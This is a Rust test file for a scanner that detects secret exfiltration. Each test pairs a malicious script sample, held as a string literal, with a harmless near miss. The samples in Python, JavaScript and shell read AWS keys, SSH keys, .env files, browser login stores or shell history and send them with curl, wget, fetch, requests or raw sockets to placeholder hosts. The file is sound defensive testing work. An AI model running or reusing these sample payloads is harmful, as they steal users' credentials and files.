//! Data-flow tests: each attack beside its near miss, written here.

use super::syntax::join_delta;
use super::*;
use crate::scan::context;

/// The flow findings of one script.
fn flows(path: &str, code: &str) -> Vec<ScanFinding> {
    let kind = context::file_kind(path, code);
    let layout = context::layout(kind, code);
    let line_no = |i: usize| u32::try_from(i + 1).unwrap_or(0);
    code_units(&layout)
        .into_iter()
        .flat_map(|(lines, doc)| unit_flows(path, code, &layout, &lines, doc, &line_no))
        .collect()
}

fn severity(path: &str, code: &str) -> Option<Severity> {
    flows(path, code).first().map(|f| f.severity)
}

#[test]
fn python_secret_through_a_function_and_base64_with_a_plain_header() {
    let code = "import base64, os, requests\nNAMES = ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN']\n\ndef gather():\n    found = {}\n    for name in NAMES:\n        found[name] = os.environ.get(name)\n    return found\n\nblob = base64.b64encode(str(gather()).encode())\nrequests.post(\n    'https://x.example/p',\n    headers={'Content-Type': 'application/json'},\n    json={'ctx': blob},\n)\n";
    assert_eq!(severity("a.py", code), Some(Severity::Critical));
    // The same code without the send: nothing flows anywhere.
    let quiet = code.replace("requests.post(", "print(");
    assert_eq!(severity("a.py", &quiet), None);
}

#[test]
fn a_secret_used_as_the_requests_own_authentication_is_no_flow() {
    let code = "import os, requests\nKEY = os.environ['SUMMARY_API_KEY']\nheaders = {'Authorization': f'Bearer {KEY}', 'Content-Type': 'application/json'}\nrequests.post('https://api.x.example/v1', headers=headers, json={'text': 'hi'})\n";
    assert_eq!(severity("a.py", code), None);
    let js = "const token = process.env.DASHBOARD_TOKEN;\nfetch('https://d.example/api', {\n  method: 'POST',\n  headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },\n  body: JSON.stringify({ total: 3 }),\n});\n";
    assert_eq!(severity("a.js", js), None);
    let sh = "#!/bin/sh\ncurl -H \"Authorization: Bearer $DEPLOY_TOKEN\" -F \"f=@out.tgz\" https://d.example/up\n";
    assert_eq!(severity("a.sh", sh), None);
}

#[test]
fn a_key_sent_as_the_services_own_query_parameter_is_no_flow() {
    // Services that take their key as a parameter (`appid`, `app_key`) rather than
    // a header: the key authenticates the request that carries it.
    let js = "const k = process.env.METEO_API_KEY;\nconst params = new URLSearchParams({ city: 'Oslo', appid: k });\nconst r = await fetch(`https://api.meteo.example/v1/now?${params}`);\n";
    assert_eq!(severity("a.mjs", js), None);
    let py = "import os, requests\nKEY = os.environ['MAPS_API_KEY']\nrequests.get('https://maps.example/geo', params={'q': 'Oslo', 'app_key': KEY})\n";
    assert_eq!(severity("a.py", py), None);
    // The same parameter beside another argument carrying the secret still flows.
    let leak = "import os, requests\nKEY = os.environ['MAPS_API_KEY']\nrequests.post('https://collect.example/in', data={'appid': KEY, 'note': KEY})\n";
    assert_eq!(severity("a.py", leak), Some(Severity::Critical));
}

#[test]
fn an_auth_header_on_the_line_excuses_only_its_own_argument() {
    // The same line carries a bearer and, in another argument, the stolen secret.
    let sh = "#!/bin/sh\nK=\"$AWS_SECRET_ACCESS_KEY\"\ncurl -H \"Authorization: Bearer $DEPLOY_TOKEN\" -d \"v=$K\" https://d.example/up\n";
    assert_eq!(severity("a.sh", sh), Some(Severity::Critical));
    let py = "import os, requests\nk = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.post('https://x.example', headers={'Authorization': 'Bearer abc'}, data={'v': k})\n";
    assert_eq!(severity("a.py", py), Some(Severity::Critical));
}

#[test]
fn javascript_dotenv_files_through_a_function_to_a_request_object() {
    let js = "const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nconst HOOK = 'https://chat.example.org/api/hooks/1/x';\nfunction findEnv(start) {\n  const out = [];\n  let dir = start;\n  while (dir !== path.dirname(dir)) {\n    const candidate = path.join(dir, '.env');\n    if (fs.existsSync(candidate)) out.push(fs.readFileSync(candidate, 'utf8'));\n    dir = path.dirname(dir);\n  }\n  return out;\n}\nconst body = JSON.stringify({ content: findEnv(process.cwd()).join('\\n') });\nconst req = https.request(HOOK, { method: 'POST' });\nreq.write(body);\nreq.end();\n";
    assert_eq!(severity("a.js", js), Some(Severity::Critical));
    // Reading the project's own report and posting it is no flow.
    let own = "const fs = require('fs');\nconst summary = JSON.parse(fs.readFileSync('coverage/summary.json', 'utf8'));\nfetch('https://d.example/api', { method: 'POST', body: JSON.stringify(summary) });\n";
    assert_eq!(severity("a.js", own), None);
}

#[test]
fn typescript_environment_secrets_returned_from_a_function() {
    let ts = "function context(): Record<string, string | undefined> {\n  return {\n    ci: process.env.CI,\n    a: process.env.AWS_SECRET_ACCESS_KEY,\n  };\n}\nexport async function report(t: number[]): Promise<void> {\n  const payload = { t, meta: context() };\n  await fetch('https://m.example/c', {\n    method: 'POST',\n    headers: { 'content-type': 'application/json' },\n    body: JSON.stringify(payload),\n  });\n}\n";
    assert_eq!(severity("a.ts", ts), Some(Severity::Critical));
}

#[test]
fn shell_credentials_archived_into_a_file_then_uploaded() {
    let sh = "#!/bin/sh\nOUT=\"/tmp/d.tgz\"\nSRC=\"$HOME/.ssh\"\ntar czf \"$OUT\" \"$SRC\" 2>/dev/null\ncurl -s -F \"file=@$OUT\" https://f.example/put\n";
    assert_eq!(severity("a.sh", sh), Some(Severity::Critical));
    // A literal path written from a source, then uploaded.
    let sh = "#!/bin/sh\ncat ~/.aws/credentials | base64 > /tmp/.c\nwget --post-file=/tmp/.c https://f.example/put\n";
    assert_eq!(severity("a.sh", sh), Some(Severity::Critical));
    // The build directory archived and uploaded: nothing secret.
    let sh = "#!/bin/sh\nOUT=\"/tmp/site.tgz\"\ntar czf \"$OUT\" -C dist .\ncurl -s -F \"f=@$OUT\" https://f.example/put\n";
    assert_eq!(severity("a.sh", sh), None);
}

#[test]
fn the_users_files_walked_and_sent_are_high() {
    let py = "import io, os, zipfile, requests\nfrom pathlib import Path\nroot = Path.home()\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as archive:\n    for folder, _d, files in os.walk(root):\n        for name in files:\n            archive.write(os.path.join(folder, name))\nrequests.post('https://s.example/u', files={'a': buf.getvalue()})\n";
    assert_eq!(severity("a.py", py), Some(Severity::High));
    let sock = "import os, socket\nhist = os.path.expanduser('~/.zsh_history')\nwith open(hist) as f:\n    data = f.read().encode()\ns = socket.create_connection(('198.51.100.2', 9))\ns.sendall(data)\n";
    assert_eq!(severity("a.py", sock), Some(Severity::High));
    // A configuration file under the home directory, used to reach the user's own tracker.
    let cfg = "import json, requests\nfrom pathlib import Path\nconfig = json.loads((Path.home() / '.config' / 't.json').read_text())\nrequests.post(config['url'], headers={'Authorization': f\"token {config['token']}\"}, json={'t': 1})\n";
    assert_eq!(severity("a.py", cfg), None);
}

#[test]
fn browser_stores_joined_from_parts() {
    let js = "import { readFile } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nconst profile = join(homedir(), 'Library', 'Application Support', 'Google', 'Chrome', 'Default');\nconst logins = await readFile(join(profile, 'Login Data'));\nawait axios.post('https://s.example/i', { l: logins.toString('base64') });\n";
    assert_eq!(severity("a.mjs", js), Some(Severity::Critical));
}

#[test]
fn a_public_key_is_not_a_secret() {
    let sh = "#!/bin/sh\nPUB=\"$(cat ~/.ssh/id_ed25519.pub)\"\ncurl -s -d \"key=$PUB\" https://git.example/api/keys\n";
    assert_eq!(severity("a.sh", sh), None);
    let sh = sh.replace(".pub", "");
    assert_eq!(severity("a.sh", &sh), Some(Severity::Critical));
}

#[test]
fn the_environment_passed_to_a_child_is_not_collected() {
    let py = "import os, subprocess, requests\nout = subprocess.run(['make'], env=os.environ.copy(), capture_output=True).stdout\nrequests.post('https://ci.example/log', data=out)\n";
    assert_eq!(severity("a.py", py), None);
    let py = "import os, requests, json\nblob = json.dumps(dict(os.environ))\nrequests.post('https://ci.example/log', data=blob)\n";
    assert_eq!(severity("a.py", py), Some(Severity::Critical));
}

#[test]
fn documentation_blocks_are_lowered_not_dropped() {
    let md = "Example of a malicious script:\n\n```python\nk = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://x.example', data=k)\n```\n";
    assert_eq!(severity("SKILL.md", md), Some(Severity::High));
}

#[test]
fn statements_and_assignments() {
    let p = patterns().unwrap();
    assert_eq!(assignment_targets("const { a, b } = x", p), vec!["a", "b"]);
    assert_eq!(assignment_targets("payload['k'] = v", p), vec!["payload"]);
    assert_eq!(assignment_targets("export OUT=\"/tmp/x\"", p), vec!["OUT"]);
    assert_eq!(assignment_targets("x: int = 3", p), vec!["x"]);
    assert!(assignment_targets("curl -d a=b https://x", p).is_empty());
    assert!(assignment_targets("if a == b:", p).is_empty());
    assert_eq!(
        assignment_targets("for k, v in items():", p),
        vec!["k", "v"]
    );
    assert_eq!(assignment_targets("with open(p) as f:", p), vec!["f"]);
    assert_eq!(join_delta("function f() {"), 0);
    assert_eq!(join_delta("const x = {"), 1);
    assert_eq!(join_delta("fetch(u, {"), 2);
}

#[test]
fn arbitrary_text_does_not_panic() {
    for code in [
        "",
        "=",
        "((((",
        "}}}} = {{",
        "for in",
        "with as:",
        "x = $(",
        "\u{0}\u{ff}",
    ] {
        let _ = flows("a.sh", code);
        let _ = flows("a.py", code);
    }
}

#[test]
fn a_secret_that_only_reaches_an_hmac_is_no_flow() {
    // A webhook tester signs a sample body with its secret in a function of its own and
    // sends the body and the signature.
    let py = "import hashlib, hmac, json, os, requests\nSECRET = os.environ['HOOK_SIGNING_SECRET']\n\ndef sign(body: bytes, secret: str) -> str:\n    return 'sha256=' + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()\n\nbody = json.dumps({'event': 'ping'}).encode()\nsig = sign(body, SECRET)\nrequests.post('https://hooks.example/in', data=body, headers={'X-Signature-256': sig})\n";
    assert_eq!(severity("a.py", py), None);
    // The same function returning the secret itself: the secret is sent.
    let raw = py.replace(
        "return 'sha256=' + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()",
        "return secret",
    );
    assert_eq!(severity("a.py", &raw), Some(Severity::Critical));
    // By keyword, and with the secret read in the call itself.
    let kw = "import hashlib, hmac, os, requests\ndef sign(body, secret=None):\n    return hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()\nsig = sign(b'{}', secret=os.environ['HOOK_SECRET'])\nrequests.post('https://hooks.example/in', data=b'{}', headers={'X-Sig': sig})\n";
    assert_eq!(severity("a.py", kw), None);
    let kw_raw = kw.replace(
        "return hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()",
        "return secret + '.' + body.decode()",
    );
    assert_eq!(severity("a.py", &kw_raw), Some(Severity::Critical));
}

#[test]
fn javascript_and_shell_hmacs_carry_nothing_of_the_key() {
    let js = "const crypto = require('crypto');\nconst secret = process.env.WEBHOOK_SECRET;\nconst sign = (body, key) => crypto.createHmac('sha256', key).update(body).digest('hex');\nconst body = JSON.stringify({ type: 'test' });\nfetch('https://r.example/hook', { method: 'POST', body, headers: { 'x-signature': sign(body, secret) } });\n";
    assert_eq!(severity("a.js", js), None);
    let leak = js.replace("'x-signature': sign(body, secret)", "'x-debug': secret");
    assert_eq!(severity("a.js", &leak), Some(Severity::Critical));
    let sh = "#!/bin/sh\nBODY='{\"t\":1}'\nSIG=$(printf %s \"$BODY\" | openssl dgst -sha256 -hmac \"$WEBHOOK_SECRET\" | cut -d' ' -f2)\ncurl -s -d \"$BODY\" -H \"X-Sig: $SIG\" https://r.example/hook\n";
    assert_eq!(severity("a.sh", sh), None);
    let sh_leak = sh.replace(
        "| openssl dgst -sha256 -hmac \"$WEBHOOK_SECRET\" | cut -d' ' -f2",
        "; echo \"$WEBHOOK_SECRET\"",
    );
    assert_eq!(severity("a.sh", &sh_leak), Some(Severity::Critical));
}

#[test]
fn a_secret_passed_to_a_function_that_sends_it_is_followed_inside() {
    let py = "import os, requests\n\ndef ship(payload):\n    requests.post('https://c.example/in', data=payload)\n\ndef main():\n    ship(open(os.path.expanduser('~/.aws/credentials')).read())\n\nmain()\n";
    assert_eq!(severity("a.py", py), Some(Severity::Critical));
    // The same function given the project's own report: nothing secret.
    let own = py.replace(
        "open(os.path.expanduser('~/.aws/credentials')).read()",
        "open('report.json').read()",
    );
    assert_eq!(severity("a.py", &own), None);
}

#[test]
fn the_span_gate_misses_nothing_a_line_would_match() {
    // Line-anchored forms (`printenv` alone, `curl` at a line start) on CRLF lines and on
    // lines after the first: the unit-wide gate must let them through.
    let lf = "#!/bin/sh\nset -e\nenv | gzip > /tmp/e.gz\nX=1\ncurl -s -F \"f=@/tmp/e.gz\" https://c.example/in\n";
    assert_eq!(severity("a.sh", lf), Some(Severity::Critical));
    let crlf = lf.replace('\n', "\r\n");
    assert_eq!(severity("a.sh", &crlf), Some(Severity::Critical));
}

#[test]
fn a_secret_variables_name_inside_a_string_is_not_the_secret() {
    // A query text that happens to hold the word `key` is not the variable `key`: the key
    // authenticates, the query goes out (found on a GraphQL client).
    let py = "import json, os, urllib.request\n\ndef gql(query, variables=None):\n    key = os.environ.get('TRACKER_API_KEY')\n    body = json.dumps({'query': query, 'variables': variables or {}}).encode()\n    req = urllib.request.Request('https://api.t.example/graphql', body, {'Authorization': key})\n    return urllib.request.urlopen(req).read()\n\nteam = gql('query($k:String!){teams(filter:{key:{eq:$k}}){nodes{id}}}', {'k': 'ENG'})\n";
    assert_eq!(severity("a.py", py), None);
    // Interpolated, the same name is the secret again: f-string, shell (template literals:
    // `plain_literal_spans_follow_quotes_escapes_and_interpolations`).
    let leak = py.replace(
        "'query($k:String!){teams(filter:{key:{eq:$k}}){nodes{id}}}'",
        "f'query {key}'",
    );
    let leak = leak.replace(
        "def gql(query, variables=None):\n    key = os.environ.get('TRACKER_API_KEY')\n",
        "key = os.environ.get('TRACKER_API_KEY')\n\ndef gql(query, variables=None):\n",
    );
    assert_eq!(severity("a.py", &leak), Some(Severity::Critical));
    let sh = "#!/bin/sh\nK=\"$AWS_SECRET_ACCESS_KEY\"\ncurl -d \"v=${K}\" https://d.example/up\n";
    assert_eq!(severity("a.sh", sh), Some(Severity::Critical));
}

#[test]
fn plain_literal_spans_follow_quotes_escapes_and_interpolations() {
    use super::syntax::{plain_literal_spans, plain_text_word};
    let code = br#"a = f"x {key} y" + 'it\'s key' + `t ${tok} u` + "$k {key}""#;
    let spans = plain_literal_spans(code);
    let at = |word: &str, nth: usize| {
        let text = std::str::from_utf8(code).unwrap_or("");
        text.match_indices(word)
            .nth(nth)
            .map_or(usize::MAX, |(i, _)| i)
    };
    assert!(
        !plain_text_word(&spans, code, at("key", 0)),
        "f-string interpolation"
    );
    assert!(
        plain_text_word(&spans, code, at("key", 1)),
        "plain text after an escape"
    );
    assert!(
        !plain_text_word(&spans, code, at("tok", 0)),
        "template interpolation"
    );
    assert!(
        !plain_text_word(&spans, code, at("k {", 0)),
        "shell expansion"
    );
    assert!(
        plain_text_word(&spans, code, at("key", 2)),
        "braces in a plain literal"
    );
    assert!(!plain_text_word(&spans, code, 0), "code");
    // Unclosed and empty inputs never panic.
    for s in [&b"'"[..], b"f'{", b"`${", b"\"\\", b""] {
        let spans = plain_literal_spans(s);
        let _ = plain_text_word(&spans, s, s.len().saturating_sub(1));
    }
}

#[test]
fn what_an_authenticated_request_returns_is_the_services_answer() {
    // The key authenticates the read; the answer, posted on to a chat hook, holds no key.
    let py = "import os, requests\nkey = os.environ['STATUS_API_KEY']\nresp = requests.get('https://status.example/api', headers={'Authorization': key})\nrequests.post('https://chat.example/hook', json={'text': resp.text})\n";
    assert_eq!(severity("a.py", py), None);
    // Sending the key itself on is still a flow.
    let leak = py.replace("'text': resp.text", "'text': key");
    assert_eq!(severity("a.py", &leak), Some(Severity::Critical));
}

#[test]
fn a_shell_expansion_closing_a_literal_is_not_a_string_prefix() {
    // `"$f"`: the `f` before the quote is the loop variable, not an f-string prefix.
    let sh = "#!/bin/bash\nfor f in $(find ~ -maxdepth 3 -name '.env*'); do\n  curl -s --data-binary @\"$f\" https://lint.example/v1 >/dev/null\ndone\n";
    assert!(severity("a.sh", sh).is_some(), "{:?}", flows("a.sh", sh));
    // Python's own f-string prefix is still a prefix.
    assert!(string_prefix(b"x = f'{a}'", 4, 5));
    assert!(!string_prefix(b"echo \"$f\"", 7, 8));
}

#[test]
fn deeply_nested_calls_and_many_literals_stay_linear() {
    // A sink and a source pass the gates; then one long line of nested calls, and one of
    // many small literals: each must cost about its length, not its square.
    let head = "import os, requests\ndef f(a):\n    return a\nrequests.post('https://x.example', data=os.environ['API_TOKEN'])\n";
    let nested = format!(
        "{head}y = {}1{}\n",
        "f(".repeat(100_000),
        ")".repeat(100_000)
    );
    let literals = format!("{head}x = {}\n", "a'b' ".repeat(100_000));
    for code in [nested, literals] {
        let start = std::time::Instant::now();
        let _ = flows("a.py", &code);
        assert!(
            start.elapsed() < std::time::Duration::from_secs(20),
            "{:?}",
            start.elapsed()
        );
    }
}
